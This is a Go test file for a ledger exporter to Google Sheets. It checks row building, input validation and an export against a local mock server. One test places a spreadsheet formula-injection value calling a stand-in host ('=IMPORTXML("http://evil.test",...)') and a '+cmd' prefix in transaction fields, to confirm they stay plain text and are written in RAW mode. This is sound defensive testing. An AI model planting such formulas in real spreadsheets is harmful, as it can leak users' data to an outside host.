package google

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	goption "google.golang.org/api/option"

	"ledgerfetch/internal/core"
)

func sampleLedger(t *testing.T) core.Ledger {
	t.Helper()
	l, err := core.NewLedger([]core.Transaction{
		{Date: core.NewDate(2013, 12, 21), Company: "B", Ledger: "Travel", Amount: core.Money{Cents: -810}},
		{Date: core.NewDate(2013, 12, 22), Company: "A", Ledger: "Phone", Amount: core.Money{Cents: 551800}},
	}, 2, 1)
	if err != nil {
		t.Fatalf("NewLedger: %v", err)
	}
	return l
}

func TestBuildRows(t *testing.T) {
	rows := BuildRows(sampleLedger(t))
	if len(rows) != 4 {
		t.Fatalf("rows = %d, want 4", len(rows))
	}
	if rows[0][0] != "Date" {
		t.Fatalf("header = %v", rows[0])
	}
	if rows[1][0] != "2013-12-22" || rows[1][1] != "A" || rows[1][3] != 5518.0 {
		t.Fatalf("first row = %v", rows[1])
	}
	if rows[2][3] != -8.1 {
		t.Fatalf("second row amount = %v", rows[2][3])
	}
	if rows[3][2] != "Balance" || rows[3][3] != 5509.9 {
		t.Fatalf("balance row = %v", rows[3])
	}
}

func TestBuildRowsKeepsFormulaTextVerbatim(t *testing.T) {
	l, err := core.NewLedger([]core.Transaction{
		{Date: core.NewDate(2013, 12, 22), Company: `=IMPORTXML("http://evil.test","//a")`, Ledger: "+cmd", Amount: core.Money{Cents: 100}},
	}, 1, 1)
	if err != nil {
		t.Fatalf("NewLedger: %v", err)
	}
	rows := BuildRows(l)
	if rows[1][1] != `=IMPORTXML("http://evil.test","//a")` || rows[1][2] != "+cmd" {
		t.Fatalf("text cells altered: %v", rows[1])
	}
}

func TestNewSheetExporterValidation(t *testing.T) {
	if _, err := NewSheetExporter(context.Background(), " ", "Ledger", Credentials{}); err == nil {
		t.Fatal("expected error for missing spreadsheet ID")
	}
	if _, err := NewSheetExporter(context.Background(), "abc", "Ledger", Credentials{}); err == nil {
		t.Fatal("expected error for missing credentials")
	}
}

func TestSheetExporter_Export(t *testing.T) {
	var (
		mu          sync.Mutex
		requests    []string
		inputOption string
		written     struct {
			Values [][]any `json:"values"`
		}
	)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		requests = append(requests, r.Method+" "+r.URL.Path)
		if r.Method == http.MethodPut {
			inputOption = r.URL.Query().Get("valueInputOption")
			body, _ := io.ReadAll(r.Body)
			json.Unmarshal(body, &written)
		}
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{}`))
	}))
	defer srv.Close()

	exp, err := NewSheetExporter(context.Background(), "sheet-123", "Ledger", Credentials{},
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithHTTPClient(srv.Client()),
		goption.WithoutAuthentication())
	if err != nil {
		t.Fatalf("NewSheetExporter: %v", err)
	}

	if err := exp.Export(context.Background(), sampleLedger(t)); err != nil {
		t.Fatalf("Export() error = %v", err)
	}

	if len(requests) != 2 {
		t.Fatalf("requests = %v, want clear + update", requests)
	}
	if !strings.HasPrefix(requests[0], "POST ") || !strings.HasSuffix(requests[0], ":clear") {
		t.Errorf("first request = %s, want clear", requests[0])
	}
	if !strings.HasPrefix(requests[1], "PUT ") || !strings.Contains(requests[1], "sheet-123") {
		t.Errorf("second request = %s, want update", requests[1])
	}
	if len(written.Values) != 4 {
		t.Fatalf("written rows = %d, want 4", len(written.Values))
	}
	if inputOption != "RAW" {
		t.Errorf("valueInputOption = %q, want RAW", inputOption)
	}
}
